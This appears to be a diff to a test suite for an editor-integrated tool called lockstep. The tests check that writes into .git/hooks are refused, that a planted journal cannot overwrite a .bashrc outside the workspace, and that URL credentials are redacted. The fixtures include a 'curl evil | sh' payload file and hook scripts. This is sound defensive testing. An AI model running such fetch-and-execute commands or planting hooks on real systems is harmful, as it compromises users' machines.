@@ -116,8 +116,7 @@ describe("an untrusted folder's .lockstep.json in an editor that sends no settin
     expect(await fs.readFile(path.join(root, ".git/config"), "utf8")).toBe("[core]\n");
     // The user's own command, whatever the approval: .git/ is version control's.
     const direct = await client.command("write_file", { file_path: ".git/hooks/pre-commit", content: "#!/bin/sh\nid\n" });
-    expect(direct).toMatchObject({ ok: false, error: { code: "permission_denied" } });
-    expect(direct.error?.message).toContain("inside .git/");
+    expect(direct).toMatchObject({ ok: false, error: { code: "permission_denied", message: expect.stringContaining("inside .git/") as string } });
     await expect(fs.stat(path.join(root, ".git/hooks/pre-commit"))).rejects.toThrow();
     const envelope = await client.command("apply_patch", { input: "*** Begin Patch\n*** Add File: .git/hooks/post-checkout\n+#!/bin/sh\n+id\n*** End Patch\n" });
     expect(envelope.ok).toBe(false);
@@ -144,5 +143,37 @@ describe("an untrusted folder's .lockstep.json in an editor that sends no settin
     expect(job["status"]).not.toBe("done");
     expect(JSON.stringify(job)).toMatch(/named pipe, not a regular file/);
     expect((await client.command("session", {})).ok).toBe(true);
+  });
+
+  it("a journal committed in the working tree is never followed by lockstep.apply_patch", async () => {
+    const { env } = await setting();
+    const outside = await createWorkspace({ ".bashrc": "# mine\n" });
+    const root = await createWorkspace({ "a.txt": "a\n", "b.txt": "b\n", "payload.sh": "curl evil | sh\n", "keep.txt": "k\n" });
+    const entries = [{ target: path.join(outside, ".bashrc"), temp: path.join(root, "payload.sh") }, { target: path.join(root, "keep.txt"), temp: null }];
+    await fs.writeFile(path.join(root, ".lockstep-batch.999999-abcdef01.json"), JSON.stringify({ version: 1, state: "committed", entries }));
+    const client = await startServer({ root, style: "no-apply-edit", env });
+    const applied = await client.command("apply_patch", { input: "*** Begin Patch\n*** Update File: a.txt\n@@\n-a\n+A\n*** Update File: b.txt\n@@\n-b\n+B\n*** End Patch\n" });
+    expect(applied.ok).toBe(true);
+    expect([await fs.readFile(path.join(root, "a.txt"), "utf8"), await fs.readFile(path.join(root, "b.txt"), "utf8")]).toEqual(["A\n", "B\n"]);
+    expect(await fs.readFile(path.join(outside, ".bashrc"), "utf8")).toBe("# mine\n");
+    expect(await fs.readFile(path.join(root, "keep.txt"), "utf8")).toBe("k\n");
+  });
+});
+
+describe("an endpoint with credentials in its URL", () => {
+  it("is shown without them by lockstep.session, --debug, the job's error and the transcript", async () => {
+    const { env } = await setting();
+    const closed = await startFakeOpenAi([{ text: "never" }]);
+    const port = new URL(closed.url).port;
+    await closed.close();
+    const root = await createWorkspace({ "a.txt": "a\n" });
+    const baseUrl = `http://user:PASSWORD@127.0.0.1:${port}/v1?api-key=K3Y#frag`;
+    const client = await startServer({ root, style: "helix", env, args: ["--debug"], initializationOptions: { provider: "openai", model: "m", baseUrl, transcript: "t.md" } });
+    const session = await client.command("session", {});
+    expect(session.data?.["baseUrl"]).toBe(`http://127.0.0.1:${port}/v1?api-key=…`);
+    const job = await askUntilDone(client, "hello");
+    expect(JSON.stringify(job)).toContain(`127.0.0.1:${port}`);
+    const transcript = await fs.readFile(path.join(root, "t.md"), "utf8");
+    for (const text of [JSON.stringify(session), JSON.stringify(job), client.stderr, transcript]) expect(text).not.toMatch(/PASSWORD|K3Y|frag/);
   });
 });
